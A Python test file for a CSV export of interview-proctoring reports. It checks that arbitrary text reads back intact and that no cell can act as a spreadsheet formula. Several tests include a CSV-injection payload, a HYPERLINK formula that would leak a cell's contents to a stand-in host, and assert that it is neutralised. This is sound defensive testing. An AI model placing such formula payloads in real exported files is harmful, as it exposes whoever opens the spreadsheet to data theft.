"""The report as CSV: reads back as it was written, and no cell is a formula."""

import csv
import io
import json
import re
from datetime import timedelta

import pytest

from reports_app.builder import EventFact, SessionFacts, build_report
from reports_app.renderers import csv_file
from sessions_app.coverage import Coverage
from sessions_app.scoring import Policy
from tests.factories import NOON

EVENT_HEADER = ["timestamp", "event_type", "message", "occurred_at", "duration_s", "confidence", "source"]
EVENT_HEADER += ["clock_skew_ms", "marks", "data"]


def render(events=(), **facts):
    counts = {}
    for event in events:
        counts[event.event_type] = counts.get(event.event_type, 0) + 1
    facts = {
        "session_id": "00000000-0000-4000-8000-000000000001",
        "candidate_name": "Ada Example",
        "state": "ended",
        "start_time": NOON,
        "end_time": NOON + timedelta(hours=1),
        "duration_s": 3600,
        "video_name": None,
        "counts": counts,
        **facts,
    }
    report = build_report(SessionFacts(**facts), policy=Policy.with_overrides({}))
    return csv_file.render(report, events)


def read(data):
    """The summary as a dict, and the rows of the events."""
    rows = list(csv.reader(io.StringIO(data.decode("utf-8"), newline=""), strict=True))
    blank = rows.index([])
    assert rows[0] == ["field", "value"]
    assert rows[blank + 1] == EVENT_HEADER
    assert all(len(row) == 2 for row in rows[:blank])
    assert all(len(row) == len(EVENT_HEADER) for row in rows[blank + 1 :])
    return dict(rows[1:blank]), rows[blank + 2 :]


def test_the_summary_has_the_reports_fields():
    summary, _ = read(render([EventFact("phone_detected", None, NOON)] * 2))
    assert summary == {
        "candidate_name": "Ada Example",
        "session_id": "00000000-0000-4000-8000-000000000001",
        "state": "ended",
        "start_time": "2026-03-02T12:00:00.000Z",
        "end_time": "2026-03-02T13:00:00.000Z",
        "interview_duration_seconds": "3600",
        "focus_lost_count": "0",
        "looking_away_count": "0",
        "no_face_segments": "0",
        "multiple_faces_count": "0",
        "phone_detected_count": "2",
        "notes_detected_count": "0",
        "device_detected_count": "0",
        "suspicious_events_count": "2",
        "integrity_score": "70",
        "risk_band": "medium",
        "coverage": "unknown",
        "clock_skew_ms": "",
        "reviewed_integrity_score": "70",
        "reviewed_risk_band": "medium",
        "review_outcome": "not_reviewed",
        "policy_version": "",
        "counted": "events",
        "exempt_types": "",
        "too_late_events": "0",
        "deduction phone_detected": "30 (2 × 15)",
        "notice": "Flags are not findings; a person decides.",
    }


def test_every_event_is_a_row():
    events = [EventFact(f"type {n}", f"message {n}", NOON + timedelta(milliseconds=n)) for n in range(5000)]
    _, rows = read(render(events))
    assert rows[1][:3] == ["2026-03-02T12:00:00.001Z", "type 1", "message 1"]
    assert [row[2] for row in rows] == [event.message for event in events]


def test_an_event_says_all_that_its_client_told():
    told = {"occurred_at": NOON + timedelta(seconds=1), "duration_s": 2.5, "confidence": 0.75, "source": "=face 1"}
    told |= {"clock_skew_ms": -1000, "marks": ("naive", "late"), "data": {"characters": 10, "where": "é"}}
    _, rows = read(render([EventFact("no_face", None, NOON, **told), EventFact("adopted", None, NOON, data=-1)]))
    data = '{"characters": 10, "where": "é"}'
    assert rows[0][3:] == ["2026-03-02T12:00:01.000Z", "2.5", "0.75", "'=face 1", "-1000", "naive late", data]
    assert rows[1][-1] == "'-1"


def test_coverage_and_skew_are_told():
    coverage = Coverage(heartbeat=0.5, camera=0.25, detectors={"face": 0.125})
    summary, _ = read(render(coverage=coverage, clock_skew_ms=18_000_000))
    told = {name: value for name, value in summary.items() if name.startswith(("coverage", "clock", "risk"))}
    assert told == {
        "coverage heartbeat": "0.5",
        "coverage camera": "0.25",
        "coverage detector face": "0.125",
        "clock_skew_ms": "18000000",
        "risk_band": "insufficient_data",
    }


def test_without_events_there_are_none():
    assert read(render())[1] == []


def test_what_is_unknown_is_an_empty_cell():
    summary, rows = read(render([EventFact("", None, None)], start_time=None, end_time=None, candidate_name=""))
    assert (summary["start_time"], summary["end_time"], summary["candidate_name"]) == ("", "", "")
    assert rows == [[""] * len(EVENT_HEADER)]


@pytest.mark.parametrize(
    "text",
    [
        "comma, comma",
        'say "quoted"',
        "two\nlines",
        "two\r\nlines",
        "old\rmac",
        ";semi;colons\tand tabs",
        "ümläut 録画 👩🏽‍💻 مرحبا",
        "'apostrophe",
        "a=b-c+d@e",
        " =not at the start",
        "nul\0byte",
        "\ufeffmark",
    ],
)
def test_any_text_reads_back_as_it_was(text):
    summary, rows = read(render([EventFact(text, text, NOON)], candidate_name=text))
    assert summary["candidate_name"] == text
    assert [row[:3] for row in rows] == [["2026-03-02T12:00:00.000Z", text, text]]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"])
def test_a_cell_that_a_spreadsheet_would_take_for_a_formula_stays_text(start):
    text = start + 'HYPERLINK("http://elsewhere.example?leak="&A1)'
    data = render([EventFact(text, text, NOON)], candidate_name=text, session_id=text)
    summary, rows = read(data)
    assert summary["candidate_name"] == summary["session_id"] == "'" + text
    assert [row[:3] for row in rows] == [["2026-03-02T12:00:00.000Z", "'" + text, "'" + text]]


@pytest.mark.parametrize("separator", [";", "\t", "\n", "\r\n", ';"'])
def test_nor_does_what_is_one_where_the_separator_is_another(separator):
    """As where the comma is the decimal mark: quotes in the middle of a cell are nothing special then."""
    text, harmless = f"Ada{separator}=1+1", f"a{separator}b=c-d"
    summary, rows = read(render([EventFact(text, harmless, NOON)], candidate_name=text))
    assert summary["candidate_name"] == rows[0][1] == f"Ada{separator}'=1+1"
    assert rows[0][2] == harmless


def test_what_an_event_says_as_json_is_read_back_as_it_was_sent():
    sent = {"url": "https://exam.example/?a=1;-b;=c", "said": 'a\n=1;"=2', ";@": [";＝1"]}
    _, rows = read(render([EventFact("opened", None, NOON, data=sent)]))
    cell = rows[0][-1]
    assert json.loads(cell) == sent
    assert not re.search(r'[;\t\r\n]"?[=+\-@＝＋－＠]', cell)


def test_no_cell_of_a_weighed_type_can_be_a_formula():
    """A weight of the settings may name any type."""
    report = build_report(
        SessionFacts("s", "Ada", "ended", NOON, NOON, 0, None, {"=1+1": 2}), policy=Policy.with_overrides({"=1+1": 5})
    )
    summary, _ = read(csv_file.render(report, []))
    assert summary["deduction =1+1"] == "10 (2 × 5)"


def test_a_lone_surrogate_of_an_adopted_text_breaks_nothing():
    assert read(render([EventFact("a", "\ud800x", NOON)]))[1][0][2] == "?x"


def test_it_is_utf_8_without_a_byte_order_mark():
    assert render(candidate_name="Ö").startswith(b"field,value\r\ncandidate_name,\xc3\x96\r\n")
